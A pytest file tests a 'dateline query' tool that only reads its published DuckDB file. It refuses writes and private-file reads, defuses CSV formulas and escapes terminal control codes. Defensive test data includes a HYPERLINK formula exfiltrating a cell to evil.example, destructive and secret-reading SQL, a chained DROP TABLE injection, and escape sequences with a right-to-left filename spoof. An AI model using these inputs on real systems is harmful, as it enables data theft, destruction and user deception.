"""A question reads the published file and nothing else, however it is asked."""

import csv
import io
import json
import os
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import duckdb
import polars as pl
import pytest
from click.testing import CliRunner, Result
from sound_warehouse import NIGHT, build

from assets.cli.main import main
from etl.schema.views import VIEWS
from etl.warehouse.digest import sha256
from etl.warehouse.questions import cut_off, question_of
from expectations.queries import batch_query, readable_query
from expectations.suites import EXPECTATIONS

PRIVATE = "what is no business of a query"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with a published file, beside a file that is none of a query's business."""
    home = tmp_path_factory.mktemp("asked") / "home"
    published = home / "warehouse" / "dateline.duckdb"
    published.parent.mkdir(parents=True)
    build(published)
    with duckdb.connect(str(published)) as con:
        for view in VIEWS:
            con.execute(f"CREATE VIEW {view.name} AS {view.query}")
    (home.parent / "private.csv").write_text(f"told\n{PRIVATE}\n")
    con = duckdb.connect(str(home.parent / "other.duckdb"))
    con.execute(f"CREATE TABLE told AS SELECT '{PRIVATE}' AS told")
    con.close()
    return home


@pytest.fixture
def ask(home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., Result]]:
    """``dateline query`` with these arguments, in the folder above the home."""
    monkeypatch.chdir(home.parent)
    monkeypatch.setenv("DATELINE_HOME", str(home))
    before = {path: sha256(path) for path in home.parent.rglob("*") if path.is_file()}
    yield lambda *arguments: CliRunner().invoke(main, ["query", *arguments])
    for path in {*home.parent.rglob("*")} - {*before}:
        if path.is_file():
            assert path.parent == home.parent, "nothing is written but where it was asked for"
            path.unlink()
    assert {path: sha256(path) for path in before} == before


WRITES = (
    "DELETE FROM articles",
    "UPDATE articles SET title = ''",
    "INSERT INTO articles SELECT * FROM articles",
    "MERGE INTO articles USING (SELECT 1 AS i) AS s ON true WHEN MATCHED THEN DELETE",
    "TRUNCATE articles",
    "DROP TABLE articles",
    "ALTER TABLE articles RENAME TO pieces",
    "COMMENT ON TABLE articles IS 'x'",
    "CREATE TABLE t AS SELECT 1",
    "CREATE TEMP TABLE t AS SELECT 1",
    "CREATE MACRO f() AS 1",
    "CREATE PERSISTENT SECRET s (TYPE HTTP, BEARER_TOKEN 'x')",
    "COPY (FROM articles) TO 'told.csv'",
    "COPY articles TO 'home/warehouse/dateline.duckdb' (FORMAT csv)",
    "COPY articles FROM 'private.csv'",
    "EXPORT DATABASE 'told'",
    "IMPORT DATABASE 'told'",
    "ATTACH 'other.duckdb'",
    "ATTACH ':memory:' AS m",
    "DETACH dateline",
    "USE system",
    "INSTALL httpfs",
    "LOAD httpfs",
    "LOAD 'told.duckdb_extension'",
    "UPDATE EXTENSIONS",
    "SET enable_external_access = true",
    "RESET enable_external_access",
    "SET VARIABLE x = 1",
    "PRAGMA enable_profiling",
    "PRAGMA profiling_output = 'told'",
    "CALL enable_logging(storage = 'file', storage_path = 'told')",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "CHECKPOINT",
    "VACUUM",
    "BEGIN",
)
REACHES = (
    "FROM read_text('private.csv')",
    "FROM read_blob('private.csv')",
    "FROM read_csv('private.csv')",
    "FROM 'private.csv'",
    'FROM "private.csv"',
    "FROM read_json_objects('private.csv', format = 'unstructured')",
    "FROM read_duckdb('other.duckdb')",
    "FROM 'other.duckdb'",
    "FROM sniff_csv('private.csv')",
    "FROM parquet_metadata('private.csv')",
    "FROM glob('*')",
    "FROM query('FROM read_text(''private.csv'')')",
    "FROM query_table('private.csv')",
    "FROM query_table(['private.csv'])",
    "WITH x AS MATERIALIZED (FROM read_text('private.csv')) FROM x",
    "SELECT (SELECT content FROM read_text('private.csv'))",
    "SELECT * FROM articles WHERE title IN (SELECT content FROM read_text('private.csv'))",
    "DESCRIBE FROM 'private.csv'",
    "SUMMARIZE FROM 'private.csv'",
    "PIVOT 'private.csv' ON told USING count(*)",
    "EXPLAIN ANALYZE FROM read_text('private.csv')",
    "EXPLAIN ANALYZE COPY (FROM articles) TO 'told.csv'",
    "FROM json_execute_serialized_sql(json_serialize_sql("
    "'SELECT content FROM read_text(''private.csv'')'))",
    "FROM 'http://127.0.0.1:9/private.csv'",
    "SELECT getenv('HOME')",
    "FROM duckdb_secrets()",
    "FROM private_frame",
    "FROM query_table('private_frame')",
    "FROM home",
    "WITH x AS (DELETE FROM articles RETURNING *) FROM x",
    "WITH x AS (INSERT INTO articles SELECT * FROM articles RETURNING *) FROM x",
    "EXPLAIN ANALYZE DELETE FROM articles",
)
SEVERAL = (
    "SELECT 1; SELECT 2",
    "SELECT 1; COPY (FROM articles) TO 'told.csv'",
    "SET lock_configuration = false; FROM read_text('private.csv')",
    "FROM articles; --\nDROP TABLE articles",
)


@pytest.mark.parametrize("sql", WRITES)
def test_what_does_not_read_is_refused_in_one_line(ask: Callable[..., Result], sql: str) -> None:
    done = ask(sql)
    assert done.exit_code == 1
    assert done.output.startswith("Error: a query only reads: ")
    assert done.output.count("\n") == 1


@pytest.mark.parametrize("sql", REACHES)
def test_no_question_reaches_beyond_the_file(ask: Callable[..., Result], sql: str) -> None:
    private_frame = pl.DataFrame({"told": [PRIVATE]})
    for arguments in ([], ["--to", "told.parquet"]):
        done = ask(sql, *arguments)
        assert done.exit_code == 1, private_frame
        assert done.output.startswith("Error: ")
        assert PRIVATE not in done.output
    assert not Path("told.parquet").exists()


def test_the_connection_alone_would_stop_it_too(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """But for what harms nobody: a table of its own, a variable, a checkpoint of nothing."""
    monkeypatch.chdir(home.parent)
    harmless = ("CREATE TEMP", "SET VARIABLE", "PREPARE", "CHECKPOINT", "VACUUM", "USE", "BEGIN")
    with cut_off(home / "warehouse" / "dateline.duckdb") as con:
        for sql in WRITES:
            if not sql.startswith(harmless):
                with pytest.raises(duckdb.Error):
                    con.execute(sql)


@pytest.mark.parametrize("sql", SEVERAL)
def test_several_statements_are_no_question(ask: Callable[..., Result], sql: str) -> None:
    done = ask(sql)
    assert done.exit_code == 1
    assert "one question at a time: found 2 statements" in done.output


@pytest.mark.parametrize(
    "sql",
    [
        "FROM articles LIMIT 1",
        "SELECT count(*) FROM articles; -- how many",
        "WITH a AS (FROM articles) SELECT count(*) FROM a",
        "VALUES (1)",
        "TABLE countries",
        "DESCRIBE articles",
        "SUMMARIZE articles",
        "SHOW TABLES",
        "PIVOT articles ON date_precision USING count(*)",
        "EXPLAIN FROM articles",
        "FROM query('FROM articles')",
        "FROM duckdb_columns()",
        *(f"FROM {view.name} LIMIT 1" for view in VIEWS),
    ],
)
def test_questions_of_every_kind_are_answered(ask: Callable[..., Result], sql: str) -> None:
    done = ask(sql)
    assert done.exit_code == 0, done.output


def test_the_sql_that_a_page_shows_is_such_a_question(home: Path) -> None:
    """Whoever sees it on the page of a night can put it to ``dateline query``."""
    with cut_off(home / "warehouse" / "dateline.duckdb") as con:
        for expectation in EXPECTATIONS:
            sql = readable_query(expectation, [NIGHT]) or batch_query(expectation, [NIGHT])
            con.execute(question_of(sql)).fetchall()


def test_what_does_not_fit_into_memory_is_not_put_beside_the_file(home: Path) -> None:
    published = home / "warehouse" / "dateline.duckdb"
    with cut_off(published) as con:
        ((folder,),) = con.execute("SELECT current_setting('temp_directory')").fetchall()
        assert Path(folder).is_dir()
        assert not Path(folder).is_relative_to(home)
    assert not Path(folder).exists()


# -- exports ----------------------------------------------------------------------------------

VALUES = """
SELECT * FROM (VALUES
    ('Ferries return', -5, 1.5::DOUBLE, DATE '2026-03-01', true, ['KE', NULL], {'n': 1}),
    (NULL, NULL, 'nan'::DOUBLE, NULL, NULL, NULL, NULL),
    ('Line\nend, "quoted"', 7, 2.0::DOUBLE, DATE '2026-03-02', false, [], {'n': 2})
) AS v(title, count, share, day, is_focus, countries, note)
"""


@pytest.mark.parametrize("name", ["told.csv", "told.parquet", "told.json", "told.JSONL"])
def test_an_answer_is_exported_as_its_ending_says(ask: Callable[..., Result], name: str) -> None:
    done = ask(VALUES, "--to", name)
    assert done.output == f"Wrote        3 rows to {name}\n"
    told = (
        duckdb.sql(f"SELECT title, count, share FROM '{name.lower()}'") if name.islower() else None
    )
    if told is None:
        told = duckdb.sql(f"SELECT title, count, share FROM read_json('{name}')")
    first, second, third = told.fetchall()
    assert first == ("Ferries return", -5, 1.5)
    assert second[:2] in ((None, None), ("", None))
    assert third == ('Line\nend, "quoted"', 7, 2.0)


def test_json_and_parquet_keep_lists_and_days(ask: Callable[..., Result]) -> None:
    ask(VALUES, "--to", "told.json")
    first, second, _ = json.loads(Path("told.json").read_text())
    assert first["countries"] == ["KE", None]
    assert (first["day"], first["is_focus"], first["note"]) == ("2026-03-01", True, {"n": 1})
    assert second["share"] is None
    ask(VALUES, "--to", "told.parquet")
    frame = pl.read_parquet("told.parquet")
    assert frame["day"].to_list() == [date(2026, 3, 1), None, date(2026, 3, 2)]
    assert frame["countries"].to_list() == [["KE", None], None, []]


def test_an_empty_answer_is_a_file_with_its_columns(ask: Callable[..., Result]) -> None:
    for name in ("told.csv", "told.parquet", "told.json", "told.jsonl"):
        done = ask("SELECT article_id FROM articles WHERE false", "--to", name)
        assert done.output == f"Wrote        0 rows to {name}\n"
    assert Path("told.csv").read_bytes() == b"article_id\r\n"
    assert pl.read_parquet("told.parquet").columns == ["article_id"]
    assert json.loads(Path("told.json").read_text()) == []
    assert Path("told.jsonl").read_text() == ""


@pytest.mark.parametrize("name", ["told.csv", "told.parquet", "told.json", "told.jsonl"])
def test_all_rows_are_exported_unless_fewer_are_wanted(
    ask: Callable[..., Result], name: str
) -> None:
    assert "120 rows" in ask("FROM range(120)", "--to", name).output
    assert "120 rows" in ask("FROM range(120)", "--to", name, "--force", "--limit", "0").output
    assert "7 rows" in ask("FROM range(120)", "--to", name, "--force", "--limit", "7").output


def test_printed_are_fifty_unless_more_are_wanted(ask: Callable[..., Result]) -> None:
    assert "the first 50 rows" in ask("FROM range(120)").output
    assert ask("FROM range(120)", "--limit", "0").output.count("\n") > 120


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("told", "expected a name that ends in .csv, .parquet, .json, .jsonl"),
        ("told.xlsx", "expected a name that ends in .csv, .parquet, .json, .jsonl"),
        ("private.csv", "it is there already; --force replaces it"),
        ("home/told.csv", "is Dateline's own"),
        ("home/warehouse/dateline.csv", "is Dateline's own"),
        ("home/landing/told.csv", "is Dateline's own"),
        ("link/told.csv", "is Dateline's own"),
        ("nowhere/told.csv", "No such file or directory"),
        ("folder.csv", "that is no file"),
        ("pipe.csv", "that is no file"),
    ],
)
def test_where_an_answer_may_not_be_written(
    ask: Callable[..., Result], home: Path, name: str, message: str
) -> None:
    (home / "landing").mkdir(exist_ok=True)
    Path("folder.csv").mkdir(exist_ok=True)
    if not Path("link").is_symlink():
        Path("link").symlink_to(home)
        os.mkfifo("pipe.csv")
    done = ask("SELECT 1", "--to", name)
    assert done.exit_code == 1
    assert message in done.output
    assert done.output.count("\n") == 1


def test_what_is_there_is_replaced_whole_or_not_at_all(ask: Callable[..., Result]) -> None:
    target = Path("told.csv")
    target.write_text("mine\n")
    fails = ask("SELECT error('no') FROM articles", "--to", "told.csv", "--force")
    assert fails.exit_code == 1
    assert target.read_text() == "mine\n"
    kept = Path("kept.txt")
    kept.write_text("mine\n")
    target.unlink()
    target.symlink_to(kept)
    assert ask("SELECT 1 AS n", "--to", "told.csv", "--force").exit_code == 0
    assert (target.read_text(), kept.read_text()) == ("n\n1\n", "mine\n")
    assert not [*Path().glob(".told*")]


@pytest.mark.parametrize("name", ["told.csv", "told.parquet", "told.json"])
def test_two_columns_of_one_name_are_told(ask: Callable[..., Result], name: str) -> None:
    done = ask("SELECT 1 AS a, 2 AS a", "--to", name)
    assert "several columns are called 'a': name them apart, by AS" in done.output
    assert not Path(name).exists()


def test_a_type_that_parquet_lacks_is_told(ask: Callable[..., Result]) -> None:
    done = ask("SELECT INTERVAL 1 DAY AS i", "--to", "told.parquet")
    assert "Parquet has no such type; cast it" in done.output
    assert done.output.count("\n") == 1


DANGEROUS = (HOSTILE, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x")
HARMLESS = ("Ferries", "1 = 1", " =1", "'=1", "a,=1", 'a"=1', "", "–1", "€")


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_is_a_formula_is_defused_in_csv(ask: Callable[..., Result], text: str) -> None:
    sql = "SELECT '" + text.replace("'", "''") + "' AS \"=name\", -5 AS n, [ '=1' ] AS l"
    ask(sql, "--to", "told.csv")
    names, cells = _rows(Path("told.csv"))
    assert names == ["'=name", "n", "l"]
    assert cells == [f"'{text}", "-5", "[=1]"]
    ask(sql, "--to", "told.csv", "--force", "--as-is")
    assert _rows(Path("told.csv"))[1][0] == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_alone(ask: Callable[..., Result], text: str) -> None:
    ask("SELECT '" + text.replace("'", "''") + "' AS t, 1 AS n", "--to", "told.csv")
    assert _rows(Path("told.csv"))[1][0] == text


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [*csv.reader(io.StringIO(stream.read()))]


def test_an_answer_in_a_terminal_obeys_no_escape(ask: Callable[..., Result]) -> None:
    done = ask("SELECT chr(27) || ']0;owned' || chr(7) || chr(8238) || 'gpj.exe' AS \"\x1b[2J\"")
    assert done.exit_code == 0
    assert "⟨U+001B⟩]0;owned⟨U+0007⟩⟨right-to-left override⟩gpj.exe" in done.output
    assert "⟨U+001B⟩[2J" in done.output
    assert not {"\x1b", "\x07", "\u202e"} & {*done.output}
